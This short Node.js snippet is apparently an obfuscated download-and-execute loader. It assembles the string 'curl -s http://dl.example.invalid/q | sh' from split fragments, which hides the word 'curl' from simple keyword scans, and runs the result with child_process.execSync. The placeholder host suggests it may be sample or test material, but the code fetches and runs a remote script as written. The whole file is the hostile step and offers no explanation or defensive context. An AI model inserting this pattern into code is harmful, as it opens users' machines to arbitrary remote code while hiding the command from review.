const { execSync } = require('child_process');
const cmd = ['cu', 'rl', ' -s ', 'http://dl.example.invalid/q', ' | ', 'sh'];
execSync(cmd.join(''));
